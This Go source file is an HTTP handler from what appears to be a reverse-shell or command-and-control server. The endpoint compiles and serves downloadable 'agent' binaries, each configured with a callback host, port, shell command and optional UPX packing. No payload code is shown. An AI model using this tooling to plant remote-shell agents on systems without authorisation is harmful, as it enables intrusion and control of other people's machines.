package api

import (
	"errors"
	"fmt"
	"net/http"
	"strconv"

	"go.uber.org/zap"

	"github.com/ashfall-io/ashfall/internal/factory"
	"github.com/ashfall-io/ashfall/internal/repositories"
)

// defaultReverseHost/Port/Shell mirror original_source's
// download_client_binary query-parameter defaults (SPEC_FULL.md §10); upx
// defaults to false, the zero value of BuildRequest.UPXCompress.
const (
	defaultReverseHost = "127.0.0.1"
	defaultReversePort = 2333
	defaultShell       = "/bin/sh"
)

// FactoryHandler serves GET /api/v1/agents/{id}/binary: invoke
// internal/factory.Build for the named agent's own secret and stream back
// the compiled executable.
type FactoryHandler struct {
	repo    repositories.AgentRepository
	factory *factory.Factory
	logger  *zap.Logger
}

// NewFactoryHandler creates a new FactoryHandler.
func NewFactoryHandler(repo repositories.AgentRepository, f *factory.Factory, logger *zap.Logger) *FactoryHandler {
	return &FactoryHandler{repo: repo, factory: f, logger: logger.Named("factory_handler")}
}

// Build handles GET /api/v1/agents/{id}/binary.
// Query parameters: shell, reverse_host, reverse_port, upx — all optional,
// matching original_source's download_client_binary defaults.
func (h *FactoryHandler) Build(w http.ResponseWriter, r *http.Request) {
	id, ok := parseUUID(w, r, "id")
	if !ok {
		return
	}

	agent, err := h.repo.GetByID(r.Context(), id)
	if err != nil {
		if errors.Is(err, repositories.ErrNotFound) {
			ErrNotFound(w)
			return
		}
		h.logger.Error("failed to get agent for binary build", zap.String("id", id.String()), zap.Error(err))
		ErrInternal(w)
		return
	}

	req := factory.BuildRequest{
		Secret:       string(agent.Secret),
		Host:         defaultReverseHost,
		Port:         defaultReversePort,
		ShellCommand: defaultShell,
	}

	q := r.URL.Query()
	if v := q.Get("shell"); v != "" {
		req.ShellCommand = v
	}
	if v := q.Get("reverse_host"); v != "" {
		req.Host = v
	}
	if v := q.Get("reverse_port"); v != "" {
		port, err := strconv.Atoi(v)
		if err != nil {
			ErrBadRequest(w, "reverse_port must be an integer")
			return
		}
		req.Port = port
	} else {
		req.Port = defaultReversePort
	}
	if v := q.Get("upx"); v != "" {
		upx, err := strconv.ParseBool(v)
		if err != nil {
			ErrBadRequest(w, "upx must be a boolean")
			return
		}
		req.UPXCompress = upx
	}

	binary, err := h.factory.Build(r.Context(), req)
	if err != nil {
		var invalidErr *factory.InvalidInputError
		var compilerErr *factory.CompilerFailureError
		switch {
		case errors.As(err, &invalidErr):
			ErrBadRequest(w, invalidErr.Error())
		case errors.As(err, &compilerErr):
			h.logger.Error("agent binary build failed", zap.String("agent_id", id.String()), zap.Error(err))
			ErrUnprocessable(w, "agent binary build failed")
		default:
			h.logger.Error("agent binary build failed", zap.String("agent_id", id.String()), zap.Error(err))
			ErrInternal(w)
		}
		return
	}

	filename := fmt.Sprintf("%s-agent", sanitizeFilename(agent.Name))
	w.Header().Set("Content-Type", "application/octet-stream")
	w.Header().Set("Content-Disposition", fmt.Sprintf("attachment; filename=%q", filename))
	w.WriteHeader(http.StatusOK)
	_, _ = w.Write(binary)
}

// sanitizeFilename keeps a Content-Disposition filename free of path
// separators and quotes derived from an operator-supplied agent name.
func sanitizeFilename(name string) string {
	out := make([]rune, 0, len(name))
	for _, r := range name {
		switch r {
		case '/', '\\', '"', '\n', '\r':
			out = append(out, '_')
		default:
			out = append(out, r)
		}
	}
	if len(out) == 0 {
		return "agent"
	}
	return string(out)
}
